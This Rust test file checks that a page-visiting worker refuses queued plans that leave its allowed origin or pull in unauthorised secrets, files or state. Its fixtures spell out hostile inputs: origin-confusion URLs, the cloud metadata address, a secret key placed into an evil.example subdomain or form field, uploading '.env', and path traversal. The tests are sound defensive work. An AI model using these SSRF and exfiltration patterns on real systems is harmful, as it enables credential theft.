//! Checks what a worker refuses of a plan that somebody else put into the queue.

use std::path::Path;

use super::*;
use crate::plan::{Job, Overrides, Plan};

const SECRET: &str = "AKIA-hunter22";

/// Reads a plan within bounds: one origin, and the variable `USER_NAME`.
fn read(text: &str) -> Plan {
    read_within(text, PlanBounds { upload_root: None, ..bounds() })
}

fn bounds() -> PlanBounds {
    PlanBounds {
        origins: vec!["https://app.example".parse().unwrap()],
        variables: vec!["USER_NAME".to_owned()],
        upload_root: Some("/srv/files".into()),
    }
}

fn read_within(text: &str, bounds: PlanBounds) -> Plan {
    let environment = |name: &str| match name {
        "USER_NAME" => Some("ci-user".to_owned()),
        "AWS_SECRET_ACCESS_KEY" => Some(SECRET.to_owned()),
        _ => None,
    };
    let path = Path::new("pages.toml");
    Plan::read_within(path, text, &Overrides::default(), &environment, bounds).unwrap()
}

/// Returns why each page is not visited; empty for one that is.
fn refused(plan: &Plan) -> Vec<String> {
    let why = |job: &Job| plan.out_of_bounds(job).map_or(String::new(), |why| why.to_string());
    plan.jobs.iter().map(why).collect()
}

#[test]
fn only_the_origins_of_the_worker_are_visited() {
    for (url, says) in [
        ("https://app.example/orders", ""),
        ("HTTPS://app.example:443/", ""),
        ("https://ci:pw@app.example/", ""),
        ("http://app.example/", "--origin http://app.example "),
        ("https://app.example:8443/", "https://app.example:8443"),
        ("https://app.example.evil.example/", "evil"),
        ("https://app.example@evil.example/", "https://evil.example"),
        ("https://evil.example\\@app.example/", "https://evil.example"),
        ("http://169.254.169.254/latest/meta-data/", "http://169.254.169.254"),
        ("http://[::1]:9200/", "http://[::1]:9200"),
        ("data:text/html,<script>x</script>", "a data: address"),
        ("about:blank", "a about: address"),
    ] {
        let text = format!("[[page]]\nname = \"p\"\nurl = {url:?}\n");
        let found = refused(&read(&text)).remove(0);
        assert_eq!(found.is_empty(), says.is_empty(), "{url}: {found}");
        assert!(found.contains(says), "{url}: {found}");
    }
}

#[test]
fn a_page_gets_only_the_variables_of_the_worker() {
    let text = "base_url = \"https://app.example\"
[[page]]
route = \"/${USER_NAME}\"
[[page]]
route = \"/?key=${AWS_SECRET_ACCESS_KEY}\"
[[page]]
name = \"host\"
url = \"https://${AWS_SECRET_ACCESS_KEY}.evil.example/\"
[[page]]
name = \"unset\"
url = \"${NO_SUCH}\"
[[page]]
name = \"typed\"
route = \"/a\"
actions = [{ type = \"fill\", element = \"#a\", text = \"${AWS_SECRET_ACCESS_KEY}\" }]
[[page]]
name = \"chosen\"
route = \"/b\"
actions = [{ type = \"select\", element = \"#a\", values = [\"${HOME}\"] }]
[[page]]
name = \"literal\"
route = \"/$${AWS_SECRET_ACCESS_KEY}\"
";
    let plan = read(text);
    let found = refused(&plan);
    let says = |at: usize, name: &str| {
        assert!(found[at].contains(&format!("${{{name}}}")), "{at}: {}", found[at]);
        assert!(found[at].contains(&format!("--env {name} ")), "{at}: {}", found[at]);
    };
    assert_eq!((found[0].as_str(), found[6].as_str()), ("", ""));
    assert_eq!(plan.jobs[0].url.as_str(), "https://app.example/ci-user");
    for at in [1, 2, 4] {
        says(at, "AWS_SECRET_ACCESS_KEY");
    }
    says(3, "NO_SUCH");
    says(5, "HOME");
    assert!(!format!("{plan:?}").contains(SECRET), "the value was not even read");
}

#[test]
fn a_base_url_and_a_set_up_count_for_every_page() {
    let base = "base_url = \"https://${HOME}/\"\nsitemap = \"/s.xml\"\n[[page]]\nroute = \"/a\"\n";
    let plan = read(base);
    assert!(refused(&plan)[0].contains("${HOME}"), "{:?}", refused(&plan));
    let (_, listed) = plan.listed_jobs().next().unwrap();
    assert!(plan.out_of_bounds(listed).unwrap().to_string().contains("${HOME}"));

    let page = "\n[[page]]\nurl = \"https://app.example/\"\n";
    for (setup, says) in [
        ("url = \"https://evil.example/\"", "https://evil.example"),
        ("url = \"https://app.example/?${HOME}\"", "${HOME}"),
    ] {
        let action = "actions = [{ type = \"press\", key = \"Enter\" }]";
        let found = refused(&read(&format!("[setup]\n{setup}\n{action}{page}"))).remove(0);
        assert!(found.starts_with("[setup]: ") && found.contains(says), "{found}");
    }
    let typed = "actions = [{ type = \"type\", text = \"${HOME}\" }]";
    let setup = format!("[setup]\nurl = \"https://app.example/\"\n{typed}{page}");
    assert!(refused(&read(&setup))[0].contains("${HOME}"));
}

#[test]
fn files_and_states_are_those_of_the_worker() {
    let upload = "[[page]]\nurl = \"https://app.example/\"\nactions = [{ type = \"upload\", element = \"#f\", paths = [\".env\"] }]\n";
    let plan = read(upload);
    assert!(refused(&plan)[0].contains("--upload-root"), "{:?}", refused(&plan));
    assert!(crate::visit::session_options(&plan).upload_roots.is_empty());
    let plan = read_within(upload, bounds());
    assert_eq!(refused(&plan), [""]);
    let options = crate::visit::session_options(&plan);
    assert_eq!(options.upload_roots, [Path::new("/srv/files")], "not the folder of the worker");
    assert_eq!(options.origins, bounds().origins);

    let mut plan = read("state = \"../../login.json\"\n[[page]]\nurl = \"https://app.example/\"\n");
    assert!(refused(&plan)[0].contains("--state"), "{:?}", refused(&plan));
    plan.loaded = Some(std::sync::Arc::default());
    assert_eq!(refused(&plan), [""], "the state of the worker takes its place");
}

#[test]
fn a_plan_of_ones_own_has_no_bounds() {
    let text = "state = \"s.json\"\n[[page]]\nurl = \"data:text/html,${HOME}\"\n";
    let environment = |_: &str| Some("x".to_owned());
    let path = Path::new("pages.toml");
    let plan = Plan::read(path, text, &Overrides::default(), &environment).unwrap();
    assert_eq!(plan.out_of_bounds(&plan.jobs[0]), None);
}
